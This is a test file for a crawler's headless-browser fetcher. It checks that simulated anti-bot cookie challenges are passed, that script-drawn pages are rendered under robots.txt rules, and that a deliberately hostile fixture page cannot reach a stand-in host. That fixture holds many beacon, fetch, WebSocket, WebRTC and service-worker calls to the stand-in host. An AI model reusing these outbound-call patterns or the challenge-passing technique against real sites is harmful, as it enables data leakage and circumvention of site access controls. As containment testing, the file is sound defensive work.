/** The browser: what it gets past, and that nothing it loads leaves the allow-list. Counted at the socket of further loopback ports. */
import { createSocket } from 'node:dgram';
import { afterEach, describe, expect, it } from 'vitest';
import { findChromium } from '../../../crawlers/fetch/chromium.ts';
import type { Fetcher } from '../../../crawlers/fetch/exchange.ts';
import { access, article, BASE, fetcher, HOST, html, portal, redirect, type Handler, type Portal } from './servers.ts';

const missing = (await findChromium()) === null ? ' [skipped: no Chromium on this machine]' : '';
const EVIL = 'www.mirror-of-it.test';
const AUTO = { render: 'auto' } as const;
const DRAWN = { render: 'browser' } as const;

const browsing = (at: Portal, more: Record<string, string> = {}): Fetcher => fetcher({ browser: 'auto', resolve: { [HOST]: at.place, ...more }, limits: { timeoutMs: 20_000, drawMs: 20_000 } });
const text = (body: Uint8Array | null): string => Buffer.from(body ?? '').toString();

/** As a simulated challenge does it: a script sets a second cookie and comes again. */
const challenged = (status: number): Handler => ({ headers, url }, response) => {
  if (url === '/robots.txt') html(response, '', {}, 404);
  else if (headers.cookie?.includes('passed=yes')) html(response, article(`${url} behind the challenge`));
  else html(response, '<html><head><title>请稍候</title></head><body><script>document.cookie="passed=yes; path=/"; location.href = location.href;</script></body></html>', { 'set-cookie': 'asked=1; path=/' }, status);
};

describe.skipIf(missing !== '')(`a challenge${missing}`, () => {
  it.each([412, 521])('%i is passed by the browser, with the first request and those after it', async (status) => {
    const at = await portal(challenged(status));
    const made = browsing(at);
    const first = await made.fetch({ url: `${BASE}/a.html`, kind: 'page' }, access([HOST], AUTO));
    expect(first).toMatchObject({ verdict: 'ok', status: 200, rendered: true, url: `${BASE}/a.html` });
    expect(text(first.body)).toContain('/a.html behind the challenge');
    expect(at.seen.map(({ url, headers }) => `${url} ${headers.cookie ?? ''}`)).toEqual(['/a.html ', '/a.html asked=1', '/a.html asked=1; passed=yes']);
    expect(at.seen[1]!.headers['user-agent']).toMatch(/^Mozilla\/5\.0 .*Chrome\/\d+.* Gongkai\/[\d.]+ \(\+\S+\)$/);
    // What is no page goes the plain way, with the cookies that the browser earned.
    expect(await made.fetch({ url: `${BASE}/list.json`, kind: 'data' }, access([HOST], AUTO))).toMatchObject({ verdict: 'ok', rendered: false });
    expect(at.seen.at(-1)!.headers.cookie).toContain('passed=yes');
  });

  it('before a file is passed on the page that links to it', async () => {
    const at = await portal((request, response, raw) => (request.url === '/x.pdf' && request.headers.cookie?.includes('passed=yes') ? html(response, '%PDF-1.4\n%%EOF') : challenged(412)(request, response, raw)));
    const exchange = await browsing(at).fetch({ url: `${BASE}/x.pdf`, kind: 'attachment', referrer: `${BASE}/a.html` }, access([HOST], AUTO));
    expect(exchange).toMatchObject({ verdict: 'ok', rendered: false, body: Buffer.from('%PDF-1.4\n%%EOF') });
    expect(at.seen.map(({ url }) => url)).toEqual(['/x.pdf', '/a.html', '/a.html', '/x.pdf']);
  });

  it('before robots.txt is met by the browser at once', async () => {
    const at = await portal((request, response, raw) => (request.url === '/robots.txt' && !request.headers.cookie?.includes('passed') ? html(response, '', {}, 412) : challenged(412)(request, response, raw)));
    expect(await browsing(at).fetch({ url: `${BASE}/a.html`, kind: 'page' }, access([HOST], AUTO))).toMatchObject({ verdict: 'ok', rendered: true });
  });

  it('that the browser does not pass either ends the host for the run', async () => {
    const at = await portal(({ url }, response) => html(response, '<html><head><title>x</title></head><body></body></html>', {}, url === '/robots.txt' ? 404 : 412));
    const made = fetcher({ browser: 'auto', resolve: { [HOST]: at.place }, limits: { drawMs: 1500 } });
    expect(await made.fetch({ url: `${BASE}/a.html`, kind: 'page' }, access([HOST], AUTO))).toMatchObject({ verdict: 'challenge', status: 412, reason: expect.stringContaining('412') as string });
    expect(await made.fetch({ url: `${BASE}/b.html`, kind: 'page' }, access([HOST], AUTO))).toMatchObject({ verdict: 'blocked' });
    expect(at.seen).toHaveLength(2);
  });
});

describe.skipIf(missing !== '')(`a page drawn by script${missing}`, () => {
  it('is waited for until its content stands', async () => {
    const at = await portal({
      '/list/': '<html><head><meta charset="utf-8"><title>年报</title></head><body><h1>政府信息公开年报</h1><ul id="list"></ul><script src="/list.js"></script></body></html>',
      '/list.js': 'setTimeout(() => fetch("/rows.json").then((r) => r.json()).then((rows) => { document.getElementById("list").innerHTML = rows.map((t) => "<li><a href=\'/t.html\'>" + t + "</a></li>").join(""); }), 300);',
      '/rows.json': (_request, response) => void setTimeout(() => html(response, '["某厅2024年政府信息公开工作年度报告"]', { 'content-type': 'application/json' }), 900),
    });
    const exchange = await browsing(at).fetch({ url: `${BASE}/list/`, kind: 'page' }, access([HOST], DRAWN));
    expect(exchange).toMatchObject({ verdict: 'ok', status: 200, rendered: true });
    expect(text(exchange.body)).toContain('<a href="/t.html">某厅2024年政府信息公开工作年度报告</a>');
  });

  it('is judged like any other', async () => {
    const at = await portal({ '/robots.txt': 'User-agent: *\nDisallow: /private/', '/hidden': redirect('/private/1.html'), '/private/1.html': article(), '/moved': redirect('/new.html'), '/new.html': article('新'), '/gbk': (_request, response) => html(response, Buffer.concat([Buffer.from(article('x').replace('utf-8', 'gbk')), Buffer.from([0xc4, 0xea, 0xb1, 0xa8])]), { 'content-type': 'text/html; charset=gbk' }) });
    const made = browsing(at);
    const get = (path: string) => made.fetch({ url: BASE + path, kind: 'page' }, access([HOST], DRAWN));
    expect(await get('/none.html')).toMatchObject({ verdict: 'gone', status: 404, rendered: true });
    expect(await get('/moved')).toMatchObject({ verdict: 'ok', url: `${BASE}/new.html`, redirects: [`${BASE}/moved`] });
    expect(text((await get('/gbk')).body)).toContain('年报');
    expect(await get('/hidden')).toMatchObject({ verdict: 'blocked', reason: expect.stringContaining('Disallow: /private/') as string, body: null });
    expect(at.paths).not.toContain('/private/1.html');
  });

  it('by https of a host that the map keeps on this machine', async () => {
    const at = await portal({ '/a.html': article('在此', '<script>document.title = location.protocol + isSecureContext</script>') });
    const exchange = await browsing(at).fetch({ url: `https://${HOST}/a.html`, kind: 'page' }, access([HOST], DRAWN));
    expect(exchange).toMatchObject({ verdict: 'ok', url: `https://${HOST}/a.html` });
    expect(text(exchange.body)).toContain('<title>https:true</title>');
  });
});

describe.skipIf(missing !== '')(`hosts off the allow-list${missing}`, () => {
  it('are contacted by nothing on a hostile page', async () => {
    const evil = await portal(() => {});
    let datagrams = 0;
    const stun = createSocket('udp4').on('message', () => (datagrams += 1));
    await new Promise<void>((resolve) => stun.bind(evil.port, '127.0.0.1', resolve));
    const direct = `http://127.0.0.1:${evil.port}`;
    const named = `http://${EVIL}:${evil.port}`;
    const both = (make: (origin: string) => string): string => [direct, named, `http://localhost:${evil.port}`, `http://[::1]:${evil.port}`].map(make).join('\n');
    const hostile = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>年报</title>
      ${both((o) => `<link rel="preconnect" href="${o}"><link rel="dns-prefetch" href="${o}"><link rel="prefetch" href="${o}/p"><link rel="prerender" href="${o}/pp"><link rel="preload" as="script" href="${o}/pl"><link rel="modulepreload" href="${o}/mp"><link rel="stylesheet" href="${o}/s.css"><link rel="icon" href="${o}/i.ico"><link rel="manifest" href="${o}/m.json"><script src="${o}/s.js"></script>`)}
      <script type="speculationrules">{"prerender":[{"source":"list","urls":["${direct}/sr"]}],"prefetch":[{"source":"list","urls":["${direct}/sf"]}]}</script></head>
      <body><h1>年报</h1><p>${'内容'.repeat(200)}</p>
      ${both((o) => `<img src="${o}/i.png"><iframe src="${o}/f"></iframe><object data="${o}/o"></object><embed src="${o}/e"><video src="${o}/v"></video><audio src="${o}/a"></audio><a id="x" href="${o}/dl" download>d</a><a href="${o}/ping" ping="${o}/pinged">p</a><style>@import url(${o}/im.css); body { background: url(${o}/bg.png) }</style><form id="f" target="t" action="${o}/form"><input name="a"></form>`)}
      <iframe srcdoc="<img src='${direct}/srcdoc.png'><script src='${direct}/srcdoc.js'></script>"></iframe>
      <iframe src="/framed.html"></iframe><img src="/redirected.png"><script src="/redirected.js"></script><link rel="stylesheet" href="/redirected.css"><iframe src="/redirected.html"></iframe>
      <script>
      ${both((o) => `
        fetch("${o}/fetch", { mode: "no-cors" }).catch(() => {});
        fetch("/redirected.json").catch(() => {});
        try { navigator.sendBeacon("${o}/beacon", "x"); } catch {}
        try { new WebSocket("${o.replace('http', 'ws')}/ws"); } catch {}
        try { new EventSource("${o}/es"); } catch {}
        try { new Worker(URL.createObjectURL(new Blob(['fetch("${o}/worker",{mode:"no-cors"}).catch(()=>{});importScripts("${o}/import.js")']))); } catch {}
        try { new SharedWorker(URL.createObjectURL(new Blob(['fetch("${o}/shared",{mode:"no-cors"})']))); } catch {}
        try { const x = new XMLHttpRequest(); x.open("POST", "${o}/xhr"); x.send("a"); } catch {}
        try { window.open("${o}/popup"); } catch {}
        try { import("${o}/dynamic.js").catch(() => {}); } catch {}
      `)}
        try { navigator.serviceWorker.register("/sw.js"); } catch {}
        try { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${evil.port}" }, { urls: "turn:127.0.0.1:${evil.port}?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}
        try { new WebTransport("https://127.0.0.1:${evil.port}/wt"); } catch {}
        document.querySelectorAll("#x").forEach((a) => a.click());
        document.querySelectorAll("form").forEach((f) => f.submit());
      </script></body></html>`;
    const away = redirect(`${direct}/redirected`);
    const at = await portal({
      '/a.html': (_request, response) => html(response, hostile, { link: `<${direct}/header>; rel=preconnect, <${direct}/header.css>; rel=preload; as=style`, 'report-to': `{"group":"g","max_age":100,"endpoints":[{"url":"${direct}/report"}]}`, nel: '{"report_to":"g","max_age":100,"success_fraction":1}' }),
      '/framed.html': `<script>top.postMessage(1,"*");location.href="${direct}/from-frame"</script>`,
      '/redirected.png': away, '/redirected.js': away, '/redirected.css': away, '/redirected.html': away, '/redirected.json': away,
      '/sw.js': (_request, response) => html(response, `self.addEventListener("install", () => fetch("${direct}/sw", { mode: "no-cors" }));`, { 'content-type': 'text/javascript' }),
    });
    const exchange = await browsing(at, { [EVIL]: evil.place }).fetch({ url: `${BASE}/a.html`, kind: 'page' }, access([HOST], DRAWN));
    expect(exchange.rendered || exchange.verdict === 'off_limits').toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 500));
    stun.close();
    expect({ connections: evil.sockets.opened, datagrams }).toEqual({ connections: 0, datagrams: 0 });
    // The page did come to life: its scripts ran, and what it may load was asked for.
    expect(at.paths).toEqual(expect.arrayContaining(['/redirected.js', '/redirected.json', '/framed.html']));
  }, 120_000);

  it.each([
    ['a redirect', redirect(`http://${EVIL}/`)],
    ['a script', ((_request, response) => html(response, `<html><body><script>location.href="http://${EVIL}/"</script></body></html>`))],
    ['meta refresh', ((_request, response) => html(response, `<meta http-equiv="refresh" content="0;url=http://${EVIL}/">`))],
  ])('are not gone to by %s', async (_name, handler) => {
    const evil = await portal(() => {});
    const at = await portal({ '/a.html': handler });
    expect(await browsing(at, { [EVIL]: evil.place }).fetch({ url: `${BASE}/a.html`, kind: 'page' }, access([HOST], DRAWN))).toMatchObject({ verdict: 'off_limits', reason: expect.stringContaining(EVIL) as string });
    expect(evil.sockets.opened).toBe(0);
  });
});

describe('without a browser', () => {
  const path = process.env['CHROMIUM_PATH'];
  afterEach(() => {
    if (path === undefined) delete process.env['CHROMIUM_PATH'];
    else process.env['CHROMIUM_PATH'] = path;
  });

  it.each([AUTO, DRAWN])('%j says what to run', async (needs) => {
    process.env['CHROMIUM_PATH'] = '/nowhere/chromium';
    const at = await portal(challenged(412));
    expect(await browsing(at).fetch({ url: `${BASE}/a.html`, kind: 'page' }, access([HOST], needs))).toMatchObject({ verdict: 'blocked', reason: 'needs a browser: npx playwright install chromium', rendered: false, body: null });
  });
});
